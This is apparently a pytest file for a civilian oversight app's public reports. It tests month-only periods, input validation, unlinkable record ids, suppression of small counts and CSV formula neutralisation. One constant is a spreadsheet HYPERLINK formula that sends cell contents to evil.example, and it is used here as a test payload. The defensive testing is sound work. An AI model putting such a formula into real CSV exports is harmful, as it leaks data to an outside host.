"""The public record leaks less (issue 11): whole-month periods checked before anything is
computed or streamed, record ids that do not link across periods, no formula in any CSV,
suppression that cannot be undone from the same output, public record published exactly."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import uuid
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import anyio.from_thread
import httpx
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from sqlalchemy import insert

from oversight.concerns import service as concerns
from oversight.concerns.models import Concern
from oversight.concerns.schemas import ConcernCreate, LocationCreate
from oversight.core.clock import simulated_clock, utcnow
from oversight.core.config import Settings
from oversight.core.engines import create_sync_engine
from oversight.core.periods import Month
from oversight.main import create_app
from tests.helpers import Api, assert_problem, run_cli

SUMMARY = "/api/v1/public/reports/summary"
OPEN_DATA = "/api/v1/public/data/concerns.csv"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def this_month() -> Month:
    return Month.of(utcnow().date())


async def file_concerns(
    api: Api, settings: Settings, places: Sequence[str | None], at: datetime | None = None
) -> None:
    """Anonymous concerns through the intake service, one per place, at ``at``."""
    moment = at or utcnow()
    with simulated_clock(lambda: moment):
        for place in places:
            async with api.database.unit_of_work() as session:
                await concerns.submit(
                    session,
                    settings,
                    None,
                    ConcernCreate(
                        kind="complaint",
                        category="discourtesy",
                        summary="Stopped",
                        description="Private words",
                        location=LocationCreate(neighborhood=place),
                    ),
                )


# Periods ---------------------------------------------------------------------------------------


async def test_periods_are_whole_months(api: Api, settings: Settings) -> None:
    await file_concerns(api, settings, ["Riverside"] * 6)
    month = str(this_month())
    by_month = (await api.client.get(SUMMARY, params={"from": month, "to": month})).json()
    assert by_month["period"] == {"from": month, "to": month}
    assert by_month["concerns"]["received"] == 6
    # A day is widened to its month: a one-day window is the whole month, so two summaries a
    # day apart are the same summary and cannot be subtracted.
    today = utcnow().date()
    by_day = (await api.client.get(SUMMARY, params={"from": str(today), "to": str(today)})).json()
    assert by_day["period"] == by_month["period"]
    assert by_day["concerns"] == by_month["concerns"]
    default = (await api.client.get(SUMMARY)).json()
    # The default period is the last twelve complete months (the month in progress left out).
    last = this_month().plus(-1)
    assert default["period"] == {"from": str(last.plus(-11)), "to": str(last)}
    # Every month of the period is listed, and nothing in the output is finer than a month
    # but the moment it was generated.
    assert [row["month"] for row in default["concerns"]["by_month"]] == [
        str(last.plus(-11 + i)) for i in range(12)
    ]
    default.pop("generated_at")
    assert not re.search(r"\d{4}-\d{2}-\d{2}", json.dumps(default))


async def test_bad_periods_are_422_before_anything_is_computed_or_streamed(
    api: Api, settings: Settings
) -> None:
    await file_concerns(api, settings, ["Riverside"] * 5)
    current = this_month()
    bad = [
        {"to": "9999-12-31"},  # after the current month
        {"to": str(current.plus(1))},
        {"from": "2026-13"},
        {"from": "yesterday"},
        {"from": "2026-02-30"},
        {"from": "0000-01", "to": "0000-12"},
        {"from": str(current), "to": str(current.plus(-1))},  # to before from
        {"from": str(current.plus(-36)), "to": str(current)},  # 37 months
        {"from": "2000-01"},  # up to the current month: far more than 36
        {"from": "2026-01" + "1" * 20},
        # Digits of another script are no month (Python's \d and int() would read them).
        {"from": "\u0662\u0660\u0662\u0666-\u0660\u0669"},
        {"from": "\uff12\uff10\uff12\uff16-09"},
    ]
    for params in bad:
        for url, extra in (
            (SUMMARY, {}),
            (SUMMARY, {"format": "csv"}),
            (SUMMARY, {"format": "html"}),
            (f"{SUMMARY}.csv", {}),
            (f"{SUMMARY}.html", {}),
            (OPEN_DATA, {}),
        ):
            response = await api.client.get(url, params={**params, **extra})
            assert_problem(response, 422)
    longest = {"from": str(current.plus(-35)), "to": str(current)}
    assert (await api.client.get(SUMMARY, params=longest)).status_code == 200
    assert (await api.client.get(OPEN_DATA, params=longest)).status_code == 200


async def test_the_cli_says_one_line_and_exits_1_for_every_bad_input(
    api: Api, settings: Settings, tmp_path: Path
) -> None:
    out = str(tmp_path / "r")
    for args in (
        ("--to", "9999-12-31"),
        ("--from", "2026-13"),
        ("--from", "2026-05", "--to", "2026-04"),
        ("--from", "2000-01"),
        ("--format", "xml"),
        ("--bogus",),
    ):
        result = run_cli(settings, "report", "--out", out, *args)
        assert result.returncode == 1, (args, result.stderr)
        assert result.stderr.startswith("error: "), result.stderr
        assert len(result.stderr.strip().splitlines()) == 1, result.stderr
        assert "Traceback" not in result.stderr
    assert not (tmp_path / "r").exists()
    missing = run_cli(settings, "report")
    assert missing.returncode == 1
    assert missing.stderr.strip().splitlines() == ["error: Missing option '--out'."]


# Open data -------------------------------------------------------------------------------------


async def test_record_ids_do_not_link_across_periods(api: Api, settings: Settings) -> None:
    await file_concerns(api, settings, ["Riverside"] * 6)
    current = str(this_month())
    year = {"from": str(this_month().plus(-11)), "to": current}
    month = {"from": current, "to": current}

    async def ids(params: dict[str, str]) -> list[str]:
        response = await api.client.get(OPEN_DATA, params=params)
        assert response.status_code == 200
        return [row["record_id"] for row in csv.DictReader(io.StringIO(response.text))]

    in_year, in_month = await ids(year), await ids(month)
    assert len(in_year) == len(in_month) == 6
    assert not set(in_year) & set(in_month)
    assert await ids(year) == in_year  # the same export gives the same ids


# CSV -------------------------------------------------------------------------------------------


async def test_no_formula_reaches_any_csv(api: Api, settings: Settings, tmp_path: Path) -> None:
    await file_concerns(api, settings, [FORMULA] * 5 + ["-12"] * 5 + ["@SUM(A1)"] * 5)
    current = str(this_month())
    params = {"from": current, "to": current}
    open_data = (await api.client.get(OPEN_DATA, params=params)).text
    summary = (await api.client.get(f"{SUMMARY}.csv", params=params)).text
    result = run_cli(
        settings, "report", "--format", "csv", "--from", current, "--out", str(tmp_path / "r")
    )
    assert result.returncode == 0, result.stderr
    from_cli = (tmp_path / "r").read_text()
    assert from_cli == summary
    for text in (open_data, summary):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert "'" + FORMULA in cells
        assert "'-12" in cells  # typed text, not a number
        assert "'@SUM(A1)" in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    rows = list(csv.reader(io.StringIO(summary)))
    assert ["concerns", "received", "15"] in rows  # numbers stay numbers
    assert ["concerns.by_neighborhood", "'" + FORMULA, "5"] in rows
    records = list(csv.DictReader(io.StringIO(open_data)))
    assert {r["neighborhood"] for r in records} == {"'" + FORMULA, "'-12", "'@SUM(A1)"}


# Public record, exactly ----------------------------------------------------------------------


async def test_the_summary_and_the_scorecard_agree(
    api: Api, settings: Settings, tmp_path: Path
) -> None:
    result = run_cli(settings, "seed-demo", "--concerns", "60")
    assert result.returncode == 0, result.stderr
    report = (await api.client.get(SUMMARY)).json()
    scorecard = (await api.client.get("/api/v1/public/recommendations/scorecard")).json()
    recommendations = report["commission"]["recommendations"]
    # The demo's commission year lies inside the default period, so both count the same
    # recommendations; public record is never suppressed, so both are exact.
    assert recommendations["total"] == scorecard["total"] > 0
    assert recommendations["by_status"] == scorecard["by_status"]
    assert None not in recommendations["by_status"].values()
    small = [n for n in recommendations["by_status"].values() if 0 < n < 5]
    assert small, "the demo should hold a small recommendation count to check"
    implemented = recommendations["by_status"]["implemented"]
    assert report["commission"]["implementation_rate_pct"] == round(
        100 * implemented / recommendations["total"], 1
    )


# Suppression cannot be undone ----------------------------------------------------------------

KINDS = ("complaint", "commendation", "policy_concern", "inquiry")
CATEGORIES = ("use_of_force", "discourtesy", "bias", "other")
STATUSES = ("submitted", "triaged", "closed", "dismissed")
PLACES = ("North", "South", "East", None)
FINDINGS = ("sustained", "unfounded", "no_finding")

record = st.tuples(
    st.sampled_from(KINDS),
    st.sampled_from(CATEGORIES),
    st.sampled_from(STATUSES),
    st.sampled_from(PLACES),
    st.integers(0, 2),  # month of the period
    st.sampled_from(FINDINGS),
)


def recovered(report: dict[str, Any], threshold: int) -> list[str]:
    """The hidden cells a reader can work out exactly from the other cells and the totals of
    the same report: every dimension of the received concerns sums to ``received`` (shown, or
    hidden and so from 1 to threshold-1); dispositions sum to at most that; a hidden cell is at
    least 1 where zeros are shown, at least 0 in a month series hidden whole."""
    c = report["concerns"]
    total = c["received"]
    equal = {name: c[name] for name in ("by_kind", "by_category", "by_neighborhood", "by_status")}
    equal["by_month"] = {row["month"]: row["received"] for row in c["by_month"]}
    at_most = {"dispositions": c["dispositions"]}

    def parts(name: str, cells: dict[str, int | None]) -> tuple[int, int, int]:
        shown = sum(v for v in cells.values() if v is not None)
        hidden = sum(v is None for v in cells.values())
        whole = name == "by_month" and all(v is None for v in cells.values())
        return shown, hidden, 0 if whole else 1

    low, high = (total, total) if total is not None else (1, threshold - 1)
    for name, cells in (equal | at_most).items():
        shown, hidden, least = parts(name, cells)
        low = max(low, shown + hidden * least)
        if hidden == 0 and name in equal:
            high = min(high, shown)
    found = ["received"] if total is None and low >= high else []
    for name, cells in (equal | at_most).items():
        shown, hidden, least = parts(name, cells)
        for key, value in cells.items():
            if value is None:
                if hidden == 1 and name in equal:  # it is the total less the others
                    exact = low >= high
                else:
                    exact = high - shown - (hidden - 1) * least <= least
                if exact:
                    found.append(f"{name}.{key}")
    return found


_months = itertools.count()


def test_no_hidden_cell_can_be_recovered(settings: Settings) -> None:
    """Random concerns in a fresh three-month period each time, the summary read over HTTP as
    JSON and CSV: no hidden cell can be worked out from the rest of the same output."""
    engine = create_sync_engine(settings)
    app = create_app(settings)
    threshold = settings.suppression_threshold

    @hypothesis_settings(
        max_examples=40,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(st.lists(record, max_size=30))
    def check(rows: list[tuple[Any, ...]]) -> None:
        first = Month(1990, 1).plus(3 * next(_months))
        rows_out = []
        for kind, category, status, place, offset, finding in rows:
            at = datetime.combine(first.plus(offset).first_day, datetime.min.time(), UTC)
            at += timedelta(days=3)
            rows_out.append(
                {
                    "id": uuid.uuid4(),
                    "tracking_code": uuid.uuid4().hex[:17],
                    "kind": kind,
                    "category": category,
                    "summary": "s",
                    "description": "d",
                    "neighborhood": place,
                    "status": status,
                    "disposition": finding if status == "closed" else None,
                    "closed_at": at + timedelta(days=1)
                    if status in ("closed", "dismissed")
                    else None,
                    "priority_rank": 1,
                    "anonymous": True,
                    "version": 1,
                    "triage_due_at": at,
                    "due_sort": at,
                    "created_at": at,
                    "updated_at": at,
                }
            )
        if rows_out:
            with engine.begin() as connection:
                connection.execute(insert(Concern), rows_out)
        params = {"from": str(first), "to": str(first.plus(2))}
        report = portal.call(lambda: client.get(SUMMARY, params=params)).json()
        assert report["concerns"]["received"] == (
            len(rows) if len(rows) >= threshold or not rows else None
        )
        assert recovered(report, threshold) == [], report
        as_csv = portal.call(lambda: client.get(f"{SUMMARY}.csv", params=params))
        lines = list(csv.reader(io.StringIO(as_csv.text)))
        hidden_in_csv = {(s, d) for s, d, v in lines[1:] if v == "suppressed"}
        hidden_in_json = (
            {
                (f"concerns.{name}", key)
                for name in (
                    "by_kind",
                    "by_category",
                    "by_neighborhood",
                    "by_status",
                    "dispositions",
                )
                for key, value in report["concerns"][name].items()
                if value is None
            }
            | {
                ("concerns.by_month.received", row["month"])
                for row in report["concerns"]["by_month"]
                if row["received"] is None
            }
            | {
                ("concerns.by_month.closed", row["month"])
                for row in report["concerns"]["by_month"]
                if row["closed"] is None
            }
            | {
                (s, n)
                for s, n in (("concerns", "received"),)
                if report["concerns"]["received"] is None
            }
            | {
                ("timeliness", name)
                for name, value in report["timeliness"].items()
                if value is None
            }
        )
        assert hidden_in_csv == hidden_in_json

    with anyio.from_thread.start_blocking_portal() as portal:
        client = httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app), base_url="http://testserver"
        )
        try:
            check()
        finally:
            portal.call(client.aclose)
            engine.dispose()


def test_the_reader_model_finds_what_the_old_rule_leaked() -> None:
    """The checker is not blind: five hidden 1s beside a shown total of 5 are each 1, and a
    lone hidden cell is the total minus the rest."""
    lone = {
        "received": 12,
        "by_kind": {"complaint": 9, "inquiry": None},
        "by_category": {"bias": 12},
        "by_neighborhood": {"unknown": 12},
        "by_status": {"submitted": 12},
        "dispositions": {},
        "by_month": [{"month": "2026-01", "received": 12, "closed": 0}],
    }
    assert recovered({"concerns": lone}, 5) == ["by_kind.inquiry"]
    ones = {
        **lone,
        "received": 5,
        "by_kind": dict.fromkeys("abcde"),
        "by_category": {"bias": 5},
        "by_neighborhood": {"unknown": 5},
        "by_status": {"submitted": 5},
        "by_month": [{"month": "2026-01", "received": 5, "closed": 0}],
    }
    assert len(recovered({"concerns": ones}, 5)) == 5
    fine = {**lone, "by_kind": {"complaint": 7, "inquiry": None, "other": None}}
    assert recovered({"concerns": fine}, 5) == []
